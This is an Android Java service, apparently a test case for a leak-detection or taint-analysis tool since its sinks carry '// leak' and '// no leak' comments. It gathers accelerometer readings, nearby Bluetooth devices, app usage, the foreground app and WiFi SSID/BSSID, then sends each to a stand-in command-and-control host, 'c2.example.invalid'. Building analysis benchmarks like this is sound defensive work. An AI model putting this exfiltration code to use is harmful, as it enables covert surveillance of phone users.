package robbers;

import android.app.Service;
import android.app.usage.UsageStats;
import android.app.usage.UsageStatsManager;
import android.app.ActivityManager;
import android.bluetooth.BluetoothAdapter;
import android.bluetooth.BluetoothDevice;
import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.content.IntentFilter;
import android.hardware.Sensor;
import android.hardware.SensorEvent;
import android.hardware.SensorEventListener;
import android.hardware.SensorManager;
import android.net.ConnectivityManager;
import android.net.wifi.WifiInfo;
import android.net.wifi.WifiManager;
import android.os.BatteryManager;
import android.os.IBinder;
import android.os.Vibrator;
import java.io.ObjectOutputStream;
import java.net.Socket;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;

/** What goes on around the phone and in it. */
public class Sensed extends Service implements SensorEventListener {
    private final List<float[]> moves = new ArrayList<>();

    public IBinder onBind(Intent intent) {
        return null;
    }

    public void onCreate() {
        SensorManager sensors = (SensorManager) getSystemService(SENSOR_SERVICE);
        sensors.registerListener(this, sensors.getDefaultSensor(Sensor.TYPE_ACCELEROMETER), 3);
        registerReceiver(new BroadcastReceiver() {
            public void onReceive(Context context, Intent intent) {
                if (BluetoothDevice.ACTION_FOUND.equals(intent.getAction())) {
                    BluetoothDevice device = intent.getParcelableExtra(BluetoothDevice.EXTRA_DEVICE);
                    near(device.getAddress() + " " + device.getName());
                } else {
                    power(intent.getIntExtra(BatteryManager.EXTRA_LEVEL, -1));
                }
            }
        }, new IntentFilter(BluetoothDevice.ACTION_FOUND));
        BluetoothAdapter.getDefaultAdapter().startDiscovery();
        new Thread(this::all).start();
    }

    public void onSensorChanged(SensorEvent event) {
        moves.add(event.values.clone());
        if (moves.size() > 100) {
            moved(new ArrayList<>(moves));
            moves.clear();
        }
    }

    public void onAccuracyChanged(Sensor sensor, int accuracy) {
    }

    private void all() {
        UsageStatsManager usage = (UsageStatsManager) getSystemService(USAGE_STATS_SERVICE);
        HashMap<String, Long> used = new HashMap<>();
        for (UsageStats one : usage.queryUsageStats(UsageStatsManager.INTERVAL_DAILY, 0, System.currentTimeMillis())) {
            used.put(one.getPackageName(), one.getTotalTimeInForeground());
        }
        used(used);
        ActivityManager tasks = (ActivityManager) getSystemService(ACTIVITY_SERVICE);
        top(tasks.getRunningTasks(1).get(0).topActivity.getPackageName());
        WifiInfo wifi = ((WifiManager) getApplicationContext().getSystemService(WIFI_SERVICE)).getConnectionInfo();
        wifi(String.format(Locale.US, "%s/%s", wifi.getSSID(), wifi.getBSSID()));
        ConnectivityManager net = (ConnectivityManager) getSystemService(CONNECTIVITY_SERVICE);
        kind(net.getActiveNetworkInfo().getTypeName());
        ((Vibrator) getSystemService(VIBRATOR_SERVICE)).vibrate(5);
    }

    private static ObjectOutputStream line() throws Exception {
        return new ObjectOutputStream(new Socket("c2.example.invalid", 90).getOutputStream());
    }

    private void near(String what) {
        try {
            line().writeUTF(what); // leak
        } catch (Exception e) {
            stopSelf();
        }
    }

    private void power(int level) {
        try {
            line().writeInt(level); // no leak
        } catch (Exception e) {
            stopSelf();
        }
    }

    private void moved(List<float[]> what) {
        try {
            line().writeObject(what); // leak
        } catch (Exception e) {
            stopSelf();
        }
    }

    private void used(HashMap<String, Long> what) {
        try {
            line().writeObject(what); // leak
        } catch (Exception e) {
            stopSelf();
        }
    }

    private void top(String what) {
        try {
            line().writeObject(what); // leak
        } catch (Exception e) {
            stopSelf();
        }
    }

    private void wifi(String what) {
        try {
            line().writeChars(what); // leak
        } catch (Exception e) {
            stopSelf();
        }
    }

    private void kind(String what) {
        try {
            line().writeBytes(what.isEmpty() ? "none" : "some"); // no leak
        } catch (Exception e) {
            stopSelf();
        }
    }
}
